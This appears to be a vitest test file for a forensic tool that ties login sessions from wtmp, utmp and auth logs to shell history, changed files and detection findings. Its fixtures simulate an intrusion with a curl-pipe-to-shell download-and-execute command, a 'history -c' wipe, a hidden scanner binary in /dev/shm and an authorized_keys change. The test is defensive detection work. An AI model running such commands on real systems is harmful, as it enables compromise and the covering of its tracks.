import { describe, expect, it } from 'vitest';
import type { ChangedFile, HistoryCommand, HistorySessionRef } from '../../src/model/activity.js';
import type { AuthLoginRecord } from '../../src/model/auth.js';
import type { KnownFacts } from '../../src/model/facts.js';
import type { DraftFinding } from '../../src/model/finding.js';
import type { SessionRecord } from '../../src/model/logins.js';
import { SESSION_LIMITS, sessionActivity } from '../../src/story/sessions.js';

const T = (hms: string) => `2024-03-01T${hms}.000Z`;

function wtmp(over: Partial<SessionRecord>): SessionRecord {
  return { user: 'deploy', line: 'pts/0', host: '127.0.0.3', addr: '127.0.0.3', pid: 100, login: T('22:26:09'), logout: T('22:40:12'), end: 'logout', source: 'wtmp', file: '/var/log/wtmp', ...over };
}

function accepted(over: Partial<AuthLoginRecord>): AuthLoginRecord {
  return {
    time: T('22:26:08'), user: 'deploy', address: '127.0.0.3', port: 50000, method: 'password', key: null, host: 'vm', program: 'sshd', pid: 99, source: '/var/log/auth.log', lineNo: 497, logout: null,
    failuresFromAddress: { count: 0, first: null, last: null }, failuresForUser: { count: 0, first: null, last: null, addresses: 0, addressesCapped: false },
    ...over,
  } as AuthLoginRecord;
}

function ref(s: SessionRecord): HistorySessionRef {
  return { source: 'wtmp', user: s.user, login: s.login, logout: s.logout, address: s.addr, line: s.line };
}

function cmd(text: string, line: number, time: string | null, session: HistorySessionRef | null, user = 'deploy'): HistoryCommand {
  return { file: `/home/${user}/.bash_history`, line, user, format: 'bash', kind: 'command', text, time, timeSource: time ? 'stamp' : 'none', session, analysis: null, toolHits: [], signals: [] };
}

function file(path: string, uid: number, btime: string | null, mtime: string, over: Partial<ChangedFile> = {}): ChangedFile {
  return { path, type: 'file', linkTarget: null, mode: 0o644, uid, gid: uid, size: 10, ino: '1', atime: mtime, mtime, ctime: mtime, btime, inWindow: ['mtime'], executable: null, sha256: null, md5: null, writableDir: null, hiddenDir: null, area: '/tmp', ...over };
}

const ACCOUNTS = [
  { user: 'deploy', uid: 1001, home: '/home/deploy' },
  { user: 'alice', uid: 1002, home: '/home/alice' },
] as unknown as KnownFacts['accounts'];

function finding(over: Partial<DraftFinding> & { subject: DraftFinding['subject'] }): DraftFinding {
  return { rule: 'activity.download-execute', severity: 'high', title: 't', detail: 'd', mitre: [], evidence: [], ...over };
}

describe('sessionActivity', () => {
  const s1 = wtmp({});
  const window = { start: T('20:00:00'), end: T('23:59:00'), source: 'since' as const, reason: '' };

  it('one session seen by wtmp, utmp and the auth log; its commands, files and findings', () => {
    const facts: KnownFacts = {
      window,
      accounts: ACCOUNTS,
      sessions: [s1, { ...s1, source: 'utmp', logout: null, end: 'still-logged-in' }],
      authLogins: [accepted({})],
      historyCommands: [
        cmd('curl -s http://x/a.sh | sh', 4, T('22:27:00'), ref(s1)),
        cmd('cd /dev/shm', 2, T('22:26:30'), ref(s1)),
        cmd('ls', 9, null, null),
      ],
      changedFiles: [
        file('/dev/shm/.x/pscan2', 1001, T('22:28:00'), T('22:28:01'), { executable: 'elf' }),
        file('/home/deploy/.bash_history', 1001, null, T('22:40:11')),
        // Outside the span, and another account's file inside it: neither is listed.
        file('/tmp/later', 1001, T('22:45:00'), T('22:45:00')),
        file('/tmp/alices', 1002, T('22:30:00'), T('22:30:00')),
        // root's file in deploy's home counts (in its home).
        file('/home/deploy/.ssh/authorized_keys', 0, null, T('22:35:00')),
      ],
    };
    const findings = [
      { id: 'F-0001', ...finding({ subject: { path: '/home/deploy/.bash_history', line: 4, user: 'deploy', session: ref(s1), time: T('22:27:00') } }) },
      { id: 'F-0002', ...finding({ rule: 'file.new-executable', severity: 'critical', subject: { path: '/dev/shm/.x/pscan2', user: null, uid: 1001, mtime: T('22:28:01') } }) },
      { id: 'F-0003', ...finding({ rule: 'auth.login-after-failures', severity: 'medium', subject: { ip: '127.0.0.3', user: 'deploy' } }) },
      { id: 'F-0004', ...finding({ rule: 'auth.bruteforce', subject: { ip: '198.51.100.1' } }) },
    ];
    const out = sessionActivity(facts, findings);
    expect(out.sessions).toHaveLength(1);
    const s = out.sessions[0];
    expect(s).toMatchObject({ user: 'deploy', uid: 1001, address: '127.0.0.3', line: 'pts/0', start: s1.login, end: s1.logout, endKind: 'logout', method: 'password', evidence: ['/var/log/auth.log:497'] });
    expect(s.sources.sort()).toEqual(['auth-log', 'utmp', 'wtmp']);
    expect(s.commands.items.map((c) => `${c.line} ${c.text}`)).toEqual(['2 cd /dev/shm', '4 curl -s http://x/a.sh | sh']);
    expect(s.files.items.map((f) => `${f.what} ${f.path}`)).toEqual(['created /dev/shm/.x/pscan2', 'modified /home/deploy/.ssh/authorized_keys', 'modified /home/deploy/.bash_history']);
    expect(s.files.items[0].time).toBe(T('22:28:00'));
    expect(s.findings.items.map((f) => `${f.id} ${f.tie}`)).toEqual(['F-0002 file', 'F-0001 session', 'F-0003 address']);
    // The untimed entry is listed once for the account.
    expect(out.untied).toEqual([{ user: 'deploy', reason: 'no-time', commands: { items: [expect.objectContaining({ text: 'ls', time: null, line: 9 })], total: 1 } }]);
  });

  it('a session still open has no end and takes every later file of its account', () => {
    const open = wtmp({ logout: null, end: 'still-logged-in', source: 'utmp' });
    const out = sessionActivity({ window, accounts: ACCOUNTS, sessions: [open], changedFiles: [file('/tmp/k', 1001, T('23:50:00'), T('23:50:00'))] }, []);
    expect(out.sessions[0]).toMatchObject({ end: null, endKind: 'still-logged-in' });
    expect(out.sessions[0].files.items.map((f) => f.path)).toEqual(['/tmp/k']);
  });

  it('an accepted ssh login alone (no login record) is a session; its PAM close is its end', () => {
    const out = sessionActivity({ window, accounts: ACCOUNTS, authLogins: [accepted({ user: 'alice', method: 'publickey', logout: T('22:31:00') })], changedFiles: [file('/tmp/a', 1002, T('22:30:00'), T('22:30:00'))] }, []);
    expect(out.sessions).toHaveLength(1);
    expect(out.sessions[0]).toMatchObject({ user: 'alice', line: null, method: 'publickey', end: T('22:31:00'), endKind: 'closed', sources: ['auth-log'] });
    expect(out.sessions[0].files.total).toBe(1);
  });

  it('two sessions of one account: each keeps its own commands and files; most recent first', () => {
    const a = wtmp({ login: T('21:00:00'), logout: T('21:10:00'), line: 'pts/1' });
    const b = wtmp({ login: T('22:00:00'), logout: T('22:10:00'), line: 'pts/2', addr: '127.0.0.9', host: '127.0.0.9' });
    const out = sessionActivity(
      {
        window, accounts: ACCOUNTS, sessions: [a, b],
        historyCommands: [cmd('id', 1, T('21:05:00'), ref(a)), cmd('wget x', 3, T('22:05:00'), ref(b)), cmd('su -', 5, T('21:30:00'), null)],
        changedFiles: [file('/tmp/one', 1001, T('21:01:00'), T('21:01:00')), file('/tmp/two', 1001, T('22:01:00'), T('22:01:00'))],
      },
      [finding({ subject: { ip: '127.0.0.9' } })],
    );
    expect(out.sessions.map((s) => s.line)).toEqual(['pts/2', 'pts/1']);
    expect(out.sessions.map((s) => s.commands.items.map((c) => c.text))).toEqual([['wget x'], ['id']]);
    expect(out.sessions.map((s) => s.files.items.map((f) => f.path))).toEqual([['/tmp/two'], ['/tmp/one']]);
    expect(out.sessions.map((s) => s.findings.items.map((f) => `${f.id} ${f.tie}`))).toEqual([['null address'], []]);
    // A stamped command no session covers (su from elsewhere) is listed apart, with why.
    expect(out.untied.map((u) => `${u.user} ${u.reason} ${u.commands.items.map((c) => c.text).join()}`)).toEqual(['deploy no-session su -']);
  });

  it('leaves out sessions that ended before the window, remote-less and boot records', () => {
    const out = sessionActivity(
      {
        window,
        sessions: [wtmp({ login: T('10:00:00'), logout: T('11:00:00') }), wtmp({ host: '', addr: null, line: 'tty1' }), wtmp({ user: 'reboot', line: 'system boot', host: '6.1.0' }), wtmp({ host: ':0', addr: null })],
        historyCommands: [cmd('ls', 1, null, null, 'bob')],
      },
      [],
    );
    expect(out.sessions).toEqual([]);
    // bob has no session and no finding: his untimed history is not listed.
    expect(out.untied).toEqual([]);
    expect(out.window).toEqual({ start: window.start, end: window.end });
  });

  it('an IPv6 host is remote: only an X display (:0, :1.0) starts a local one', () => {
    const out = sessionActivity({ window, sessions: [wtmp({ host: '::1', addr: '::1' }), wtmp({ line: 'pts/3', host: '::ffff:127.0.0.3', addr: null }), wtmp({ line: 'pts/4', host: ':1.0', addr: null })] }, []);
    expect(out.sessions.map((s) => s.address).sort()).toEqual(['::1', '::ffff:127.0.0.3']);
  });

  it('an account without a session is listed when a finding names one of its untied entries', () => {
    const out = sessionActivity({ historyCommands: [cmd('history -c', 7, null, null, 'bob')] }, [finding({ rule: 'activity.history-tampering', subject: { path: '/home/bob/.bash_history', line: 7, user: 'bob' } })]);
    expect(out.untied.map((u) => `${u.user} ${u.reason} ${u.commands.total}`)).toEqual(['bob no-time 1']);
  });

  it('without the accounts step, uid and home come from the history files', () => {
    const out = sessionActivity(
      {
        window, sessions: [s1],
        historyFiles: [{ path: '/srv/deploy/.local/share/fish/fish_history', user: 'deploy', accountUid: 1500 } as never],
        changedFiles: [file('/tmp/x', 1500, null, T('22:30:00')), file('/srv/deploy/notes', 0, null, T('22:31:00'))],
      },
      [],
    );
    expect(out.sessions[0].uid).toBe(1500);
    expect(out.sessions[0].files.items.map((f) => f.path)).toEqual(['/tmp/x', '/srv/deploy/notes']);
  });

  it('caps every list and counts what is left out', () => {
    const many = Array.from({ length: SESSION_LIMITS.sessions + 3 }, (_, i) => wtmp({ line: `pts/${i}`, login: new Date(Date.parse(T('21:00:00')) + i * 1000).toISOString(), logout: null, end: 'gone' }));
    const last = many.at(-1)!;
    const cmds = Array.from({ length: SESSION_LIMITS.commands + 5 }, (_, i) => cmd(`echo ${i}`, i + 1, new Date(Date.parse(last.login) + 1000 + i).toISOString(), ref(last)));
    const untimed = Array.from({ length: SESSION_LIMITS.untied + 2 }, (_, i) => cmd(`u${i}`, i + 1, null, null));
    const files = Array.from({ length: SESSION_LIMITS.files + 7 }, (_, i) => file(`/tmp/f${String(i).padStart(3, '0')}`, 1001, null, new Date(Date.parse(last.login) + 5000 + i).toISOString()));
    const out = sessionActivity({ window, accounts: ACCOUNTS, sessions: many, historyCommands: [...cmds, ...untimed], changedFiles: files }, []);
    expect(out.sessions).toHaveLength(SESSION_LIMITS.sessions);
    expect(out.sessionsLeftOut).toBe(3);
    const top = out.sessions[0];
    expect(top.line).toBe(last.line);
    expect(top.commands.items).toHaveLength(SESSION_LIMITS.commands);
    expect(top.commands.total).toBe(SESSION_LIMITS.commands + 5);
    expect(top.commands.items[0].text).toBe('echo 0');
    expect(top.files.items).toHaveLength(SESSION_LIMITS.files);
    expect(top.files.total).toBe(SESSION_LIMITS.files + 7);
    // The untied entries keep the last ones typed.
    expect(out.untied[0].commands.total).toBe(SESSION_LIMITS.untied + 2);
    expect(out.untied[0].commands.items.at(-1)!.text).toBe(`u${SESSION_LIMITS.untied + 1}`);
    expect(out.untied[0].commands.items[0].text).toBe('u2');
  });
});
